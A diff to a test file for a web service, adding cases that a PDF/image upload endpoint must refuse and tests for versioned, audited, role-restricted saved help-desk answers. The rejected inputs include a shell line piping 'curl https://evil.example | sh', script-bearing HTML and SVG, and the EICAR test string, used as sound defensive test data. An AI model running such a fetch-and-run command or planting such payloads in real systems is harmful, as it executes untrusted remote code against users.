@@ -193,8 +193,13 @@ describe('files', () => {
   test.each([
     ['the test file of virus scanners', 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'],
     ['a program', 'MZ\u0090\u0000'],
+    ['a program of Linux', '\u007fELF\u0002\u0001'],
+    ['a script', '#!/bin/sh\ncurl https://evil.example | sh'],
     ['a page', '<html><script>alert(1)</script></html>'],
-  ])('of another kind are refused: %s', async (_, body) => {
+    ['a picture with a script', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
+    ['a document with macros, in an archive', 'PK\u0003\u0004 word/vbaProject.bin'],
+    ['a page before the head of a PDF', `<script>alert(1)</script>${PDF}`],
+  ])('of another kind are refused, whatever their name and type say: %s', async (_, body) => {
     const answered = await upload('harmless.pdf', body);
     expect([answered.status, answered.json.errors]).toEqual([422, { file: ['The file must be a PDF, JPG or PNG.'] }]);
   });
@@ -244,15 +249,59 @@ describe('the desk', () => {
     expect(mine.map((line: { id: string }) => line.id)).toEqual([id]);
   });
 
-  test('saves answers, changes and deletes them', async () => {
+  test('saves answers, changes and deletes them, each on the record', async () => {
     const id = newId();
     const title = `Payout times ${id.slice(-4)}`;
     const save = (of: string, body: object) => desk.as({ method: 'PUT', url: `/staff/saved-answers/${of}`, body });
     await save(id, { title, text: 'One hour.' });
-    const changed = await save(id, { title, text: 'Two hours.' });
-    expect(changed.json.data).toContainEqual({ id, title, text: 'Two hours.' });
+    // Sent twice, it is saved once.
+    expect((await save(id, { title, text: 'One hour.' })).status).toBe(200);
+    const changed = await save(id, { title, text: 'Two hours.', version: 1 });
+    expect(changed.json.data).toContainEqual({
+      id,
+      title,
+      text: 'Two hours.',
+      version: 2,
+      changed_by: desk.member.fullName,
+      changed_at: expect.any(String),
+    });
     expect((await save(newId(), { title, text: 'Another' })).status).toBe(409);
-    const left = await desk.as({ method: 'DELETE', url: `/staff/saved-answers/${id}` });
+    const left = await desk.as({ method: 'DELETE', url: `/staff/saved-answers/${id}?version=2` });
     expect(left.json.data).not.toContainEqual(expect.objectContaining({ id }));
+    expect((await desk.as({ method: 'DELETE', url: `/staff/saved-answers/${id}?version=2` })).status).toBe(404);
+    const acts = await select<{ action: string }>(
+      api.db,
+      'SELECT action FROM audit_log WHERE target_id = $1 ORDER BY seq',
+      [id],
+    );
+    expect(acts.map(({ action }) => action)).toEqual([
+      'ticket.answer_saved',
+      'ticket.answer_changed',
+      'ticket.answer_deleted',
+    ]);
+  });
+
+  test('overwrites and deletes no saved answer that somebody else has changed, and lets nobody else change any', async () => {
+    const id = newId();
+    const [title, url] = [`Fees ${id.slice(-6)}`, `/staff/saved-answers/${id}`];
+    const colleague = await signInStaff(api, 'compliance_officer');
+    await desk.as({ method: 'PUT', url, body: { title, text: 'Half a percent.' } });
+    const both = await Promise.all(
+      [desk, colleague].map(({ as }, at) =>
+        as({ method: 'PUT', url, body: { title, text: `Mine ${at}`, version: 1 } }),
+      ),
+    );
+    expect(both.map(({ status }) => status).sort()).toEqual([200, 409]);
+    const [refused] = both.filter(({ status }) => status === 409);
+    expect(refused?.json.code).toBe('changed_meanwhile');
+    expect((await desk.as({ method: 'DELETE', url: `${url}?version=1` })).json.code).toBe('changed_meanwhile');
+    const overseer = await signInStaff(api, 'representative');
+    expect((await overseer.as({ method: 'PUT', url, body: { title, text: 'Mine', version: 2 } })).status).toBe(403);
+    expect((await overseer.as({ method: 'DELETE', url: `${url}?version=2` })).status).toBe(403);
+    expect((await desk.as({ method: 'DELETE', url: `${url}?version=2` })).status).toBe(200);
+    // One who still reads it is not the first to save it again.
+    expect((await colleague.as({ method: 'PUT', url, body: { title, text: 'Mine', version: 2 } })).json.code).toBe(
+      'changed_meanwhile',
+    );
   });
 });
